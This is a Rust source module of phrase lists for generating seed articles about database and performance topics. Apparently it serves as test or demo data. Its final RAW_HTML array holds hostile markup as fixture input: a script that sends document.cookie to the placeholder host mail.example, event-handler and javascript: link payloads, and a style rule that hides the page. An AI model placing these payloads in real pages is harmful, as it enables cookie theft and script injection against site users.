//! The phrases that titles and prose are made of. Changing one changes the articles of every
//! database that is seeded afterwards.

/// Forms of a title.
pub(super) const TITLES: [&str; 8] = [
    "A field guide to {topic} in {place}",
    "What {topic} taught us about {place}",
    "{topic}, measured: notes from {place}",
    "Before you reach for {topic} in {place}",
    "The quiet cost of {topic} in {place}",
    "How we moved {topic} out of {place}",
    "Ten questions on {topic} for {place}",
    "{topic} without surprises in {place}",
];

/// What an article is about.
pub(super) const TOPICS: [&str; 16] = [
    "keyset pagination",
    "connection pooling",
    "snapshot isolation",
    "back-pressure",
    "work stealing",
    "query planning",
    "cache invalidation",
    "structured logging",
    "graceful shutdown",
    "rate limiting",
    "schema migrations",
    "load shedding",
    "zero-copy parsing",
    "tail latency",
    "batch imports",
    "full-text search",
];

/// Where it happens.
pub(super) const PLACES: [&str; 16] = [
    "a small API",
    "a busy web shop",
    "the reporting service",
    "a nightly import",
    "one process",
    "a two-core server",
    "the public API",
    "a growing team",
    "an old monolith",
    "the mobile back end",
    "a read replica",
    "the billing system",
    "a single table",
    "production",
    "the test suite",
    "an admin list",
];

/// Headings of sections.
pub(super) const HEADINGS: [&str; 12] = [
    "Where the time goes",
    "The first attempt",
    "What the planner sees",
    "Measuring it",
    "A smaller example",
    "Failure modes",
    "Choosing the numbers",
    "What we kept",
    "Under load",
    "Trade-offs",
    "Rolling it out",
    "Questions we were asked",
];

/// Starts of sentences.
pub(super) const SUBJECTS: [&str; 24] = [
    "The first request of the day",
    "A worker that has nothing to do",
    "Every query of the list",
    "The slowest percentile",
    "Our second design",
    "A cursor",
    "The connection pool",
    "Each page after the first",
    "The index",
    "A client that gives up early",
    "The benchmark",
    "One long transaction",
    "The database server",
    "A queue without a limit",
    "The new version",
    "Most of the code",
    "The renderer",
    "A well-chosen default",
    "The operating system",
    "Nobody on the team",
    "The dashboard",
    "A retry",
    "The smallest machine",
    "The longest function",
];

/// Verbs, between a subject and an object.
pub(super) const VERBS: [&str; 16] = [
    "depends on",
    "spends most of its time in",
    "hides",
    "cannot do without",
    "competes with",
    "pays for",
    "reveals",
    "waits for",
    "is measured against",
    "replaces",
    "is limited by",
    "benefits from",
    "starts with",
    "rarely notices",
    "explains",
    "outlives",
];

/// Objects, also the entries of lists and tables.
pub(super) const OBJECTS: [&str; 24] = [
    "the cost of a context switch",
    "an index on both columns",
    "a snapshot of the table",
    "the write-ahead log",
    "a bounded queue",
    "the serialiser",
    "an idle core",
    "the order of the rows",
    "a prepared statement",
    "one more round trip",
    "the statement timeout",
    "a covering index",
    "the page size",
    "a fixed number of workers",
    "the garbage of the last request",
    "an honest measurement",
    "the row estimate",
    "a cold cache",
    "the slow path",
    "a unique key at the end of the order",
    "the deadline of the caller",
    "a shared counter",
    "the memory of one process",
    "an old assumption",
];

/// Ends of sentences without a comma.
pub(super) const ADVERBS: [&str; 8] = [
    "in practice",
    "on every page",
    "most of the time",
    "under a steady load",
    "during a deployment",
    "on two cores",
    "as the table grows",
    "for as long as it runs",
];

/// Ends of sentences after a comma.
pub(super) const CLAUSES: [&str; 16] = [
    "which is easy to miss in a test with ten rows",
    "and the graphs show it within a minute",
    "even when the machine has cores to spare",
    "because the planner has no better choice",
    "so the answer stays the same byte for byte",
    "unless the caller asks for more than a thousand rows",
    "which took us a week to find",
    "and that is exactly what we wanted",
    "although the documentation says otherwise",
    "provided that the order is total",
    "at a price that nobody had written down",
    "while a second connection sits idle",
    "as long as no row is read twice",
    "and a bounded queue turns that into an early error",
    "since a lock is held for the whole call",
    "where a cursor would have needed one seek",
];

/// Hosts of links and of quoted sources.
pub(super) const SOURCES: [&str; 6] = [
    "docs.example.com/guide",
    "blog.example.net/posts",
    "wiki.example.org/notes",
    "papers.example.org/latency",
    "mail.example/archive",
    "example.com/handbook",
];

/// Raw HTML as a careless or hostile author would write it; some of it is harmless.
pub(super) const RAW_HTML: [&str; 8] = [
    "<script>document.location = 'https://mail.example/?c=' + document.cookie;</script>",
    "<img src=\"missing.png\" onerror=\"alert('image')\" alt=\"a chart of the load\">",
    "<div onclick=\"alert('click')\" style=\"position:fixed;top:0\">Press <kbd>Ctrl</kbd> + <kbd>C</kbd> to stop it.</div>",
    "<iframe src=\"https://example.net/frame\"></iframe>",
    "A link that is [not what it says](javascript:alert('link')) and one <a href=\"javascript:alert(1)\" target=\"_top\">in HTML</a>.",
    "<details open ontoggle=\"alert('open')\"><summary>Raw numbers</summary>They are in the table.</details>",
    "<style>body { display: none }</style><span class=\"admin-toolbar\">styled</span>",
    "Text with an <b>inline <script>alert('inline')</script> script</b> in its middle.",
];
